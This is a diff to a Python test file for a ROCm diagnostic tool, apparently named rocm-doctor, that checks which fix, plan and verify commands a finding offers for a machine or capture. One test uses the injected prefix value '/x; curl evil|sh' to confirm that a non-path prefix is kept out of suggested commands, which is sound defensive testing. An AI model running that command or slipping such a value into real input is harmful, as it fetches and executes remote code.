@@ -1,22 +1,26 @@
-"""`rocm-doctor plan` in a finding fits the machine: with the GPU of a capture, and with `fix` where an environment is examined."""
+"""What a finding tells to type fits the machine: `plan` with the GPU of a capture, `fix` where an environment is examined."""
 
 from __future__ import annotations
 
 import pytest
 
+from rocm_doctor.cures.offer import offer_commands
 from rocm_doctor.matrix import load
 from rocm_doctor.model import Fact, Finding, Gpu, Snapshot, Value
-from rocm_doctor.rules.offers import complete_commands, use_examined
 
 MATRIX = load()
 
 
-def commands(kind: str, facts: dict[str, Value], gfx: str | None = "gfx1151") -> list[str]:
+def offered(kind: str, facts: dict[str, Value], gfx: str | None = "gfx1151") -> Finding:
     gpus = (Gpu({"gfx": Fact(gfx)}),) if gfx else ()
     snapshot = Snapshot({name: Fact(value) for name, value in facts.items()}, gpus)
-    typed = MATRIX.classify(["rocm-doctor plan", "uname -r"])
-    one = Finding("arch.not-in-build", "title", "error", "high", "cause", commands=typed)
-    return [one.text for one in complete_commands(one, snapshot, kind, MATRIX)]  # type: ignore[arg-type]
+    typed, verify = MATRIX.classify(["rocm-doctor plan", "uname -r"]), MATRIX.classify(['python -c "import torch"', "rocminfo"])
+    one = Finding("arch.not-in-build", "title", "error", "high", "cause", commands=typed, verify=verify)
+    return offer_commands([one], snapshot, kind, MATRIX, python=True)[0]  # type: ignore[arg-type]
+
+
+def commands(kind: str, facts: dict[str, Value], gfx: str | None = "gfx1151") -> list[str]:
+    return [one.text for one in offered(kind, facts, gfx).commands]
 
 
 def test_a_live_environment_is_offered_fix() -> None:
@@ -43,13 +47,14 @@ def test_a_prefix_that_is_no_path_is_not_put_into_a_command() -> None:
     assert commands("machine", {"python.env": "venv", "python.prefix": "/x; curl evil|sh"}) == ["rocm-doctor plan", "uname -r"]
 
 
-def test_what_verifies_a_cure_runs_in_the_interpreter_that_was_examined() -> None:
-    command = MATRIX.classify(['python -c "import torch"', "rocminfo"])
-    facts = Snapshot({"python.prefix": Fact("/srv/train/.venv"), "platform": Fact("linux")})
-    assert [c.text for c in use_examined(command, facts, "machine", MATRIX)] == [
-        '/srv/train/.venv/bin/python -c "import torch"',
-        "rocminfo",
-    ]
-    assert use_examined(command, facts, "capture", MATRIX) == command
-    odd = Snapshot({"python.prefix": Fact("/srv/my env"), "platform": Fact("linux")})
-    assert use_examined(command, odd, "machine", MATRIX)[0].text == "'/srv/my env'/bin/python -c \"import torch\""
+@pytest.mark.parametrize(
+    ("kind", "prefix", "python"),
+    [
+        ("machine", "/srv/train/.venv", "/srv/train/.venv/bin/python"),
+        ("machine", "/srv/my env", "'/srv/my env'/bin/python"),
+        ("capture", "/srv/train/.venv", "python"),
+    ],
+)
+def test_what_verifies_a_cure_runs_in_the_interpreter_that_was_examined(kind: str, prefix: str, python: str) -> None:
+    one = offered(kind, {"python.prefix": prefix, "platform": "linux"})
+    assert [c.text for c in one.verify] == [f'{python} -c "import torch"', "rocminfo"]
